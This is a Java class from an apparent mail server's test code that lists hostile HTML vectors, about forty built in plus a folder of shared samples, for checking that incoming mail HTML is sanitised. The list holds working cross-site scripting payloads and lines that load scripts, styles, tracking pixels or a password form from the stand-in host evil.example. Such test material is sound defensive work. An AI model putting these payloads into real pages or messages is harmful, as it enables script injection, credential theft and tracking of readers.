package dev.steadymail.server.mail;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** HTML that attackers write: some of it built in, and the shared corpus where {@code STEADYMAIL_SHARED} names it. */
final class HostileVectors {
    static final List<String> BUILT_IN = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<a href=\"javascript:alert(1)\">a</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">a</a>",
            "<a href=\" &#14; javascript:alert(1)\">a</a>",
            "<a href=\"vbscript:msgbox(1)\">a</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
            "<math><mi xlink:href=\"javascript:alert(1)\">a</mi></math>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<form action=\"http://evil.example/\"><input name=password><button>go</button></form>",
            "<button formaction=\"javascript:alert(1)\">go</button>",
            "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
            "<base href=\"http://evil.example/\"><a href=\"x\">a</a>",
            "<iframe src=\"http://evil.example/\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"http://evil.example/x.swf\"></object>",
            "<embed src=\"http://evil.example/x.swf\">",
            "<link rel=stylesheet href=\"http://evil.example/x.css\">",
            "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/b)}</style>",
            "<div style=\"background:url(http://evil.example/b)\">a</div>",
            "<div style=\"width:expression(alert(1))\">a</div>",
            "<div style=\"background:u\\72l(http://evil.example/b)\">a</div>",
            "<table background=\"http://evil.example/b\"><tr><td>a</td></tr></table>",
            "<img src=\"http://evil.example/p.gif\" width=1 height=1>",
            "<img srcset=\"http://evil.example/p.gif 2x\">",
            "<video poster=\"http://evil.example/p\" src=\"http://evil.example/v\"></video>",
            "<input type=image src=\"http://evil.example/p\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<template><script>alert(1)</script></template>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<details open ontoggle=alert(1)>a</details>",
            "<body onload=alert(1) background=\"http://evil.example/b\">a",
            "<a href=\"http://a.example/\" ping=\"http://evil.example/\">a</a>",
            "<select><option><script>alert(1)</script></option></select>");

    private HostileVectors() {}

    /** Returns HTML documents, the built-in ones first. */
    static List<String> all() throws IOException {
        List<String> all = new ArrayList<>(BUILT_IN);
        String shared = System.getenv("STEADYMAIL_SHARED");
        Path folder = shared == null ? null : Path.of(shared, "corpus", "html-hostile");
        if (folder != null && Files.isDirectory(folder)) {
            try (Stream<Path> files = Files.walk(folder)) {
                for (Path file : files.filter(Files::isRegularFile).sorted().toList()) {
                    all.add(html(Files.readString(file, StandardCharsets.ISO_8859_1), file.toString()));
                }
            }
        }
        return all;
    }

    private static String html(String content, String name) {
        int body = content.replace("\r\n", "\n").indexOf("\n\n");
        return name.endsWith(".eml") && body > 0 ? content.replace("\r\n", "\n").substring(body + 2) : content;
    }
}
